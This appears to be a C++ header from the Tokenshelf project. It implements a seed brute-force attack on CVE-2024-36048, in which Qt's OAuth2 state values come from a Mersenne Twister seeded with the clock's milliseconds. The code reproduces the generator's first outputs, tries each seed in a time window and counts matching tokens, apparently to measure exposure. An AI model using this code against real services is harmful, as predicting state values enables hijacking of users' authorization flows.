// SPDX-FileCopyrightText: 2026 Tokenshelf contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QByteArray>
#include <QSet>

#include <algorithm>
#include <array>

/**
 * The attack on CVE-2024-36048: Qt's own flow makes its state with a Mersenne Twister that is seeded with the milliseconds of the clock, so
 * whoever knows roughly when can try every seed.
 */
namespace Tokenshelf::SeedAttack {

constexpr int words = 8;

/** The first outputs of std::mt19937 with that seed, without the work for all the others. */
inline std::array<quint32, words> firstWords(quint32 seed)
{
    constexpr size_t shift = 397;
    std::array<quint32, shift + words> state;
    state[0] = seed;
    for (quint32 i = 1; i < state.size(); ++i)
        state[i] = 1'812'433'253u * (state[i - 1] ^ (state[i - 1] >> 30)) + i;
    std::array<quint32, words> result;
    for (size_t i = 0; i < words; ++i) {
        const quint32 mixed = (state[i] & 0x8000'0000u) | (state[i + 1] & 0x7fff'ffffu);
        quint32 y = state[i + shift] ^ (mixed >> 1) ^ ((mixed & 1) != 0 ? 0x9908'b0dfu : 0u);
        y ^= y >> 11;
        y ^= (y << 7) & 0x9d2c'5680u;
        y ^= (y << 15) & 0xefc6'0000u;
        result[i] = y ^ (y >> 18);
    }
    return result;
}

/** The two ways in which words become characters: as bytes in Base64, or each picking one character of 64. Eight characters of either. */
inline QByteArray asBytes(const std::array<quint32, words> &numbers)
{
    const QByteArray bytes(reinterpret_cast<const char *>(numbers.data()), sizeof numbers);
    return bytes.toBase64(QByteArray::Base64UrlEncoding).first(words);
}

inline QByteArray asChoices(const std::array<quint32, words> &numbers)
{
    constexpr QByteArrayView alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    QByteArray text;
    for (const quint32 number : numbers)
        text += alphabet[number >> 26];
    return text;
}

/** How many of the tokens begin as one of these seeds would have them. */
inline int recovered(const QSet<QByteArray> &tokens, qint64 from, qint64 until)
{
    QSet<QByteArray> beginnings;
    for (const QByteArray &token : tokens)
        beginnings.insert(token.first(words));
    int found = 0;
    for (qint64 seed = from; seed <= until; ++seed) {
        const auto numbers = firstWords(quint32(seed));
        found += beginnings.contains(asBytes(numbers)) || beginnings.contains(asChoices(numbers)) ? 1 : 0;
    }
    return found;
}

} // namespace Tokenshelf::SeedAttack
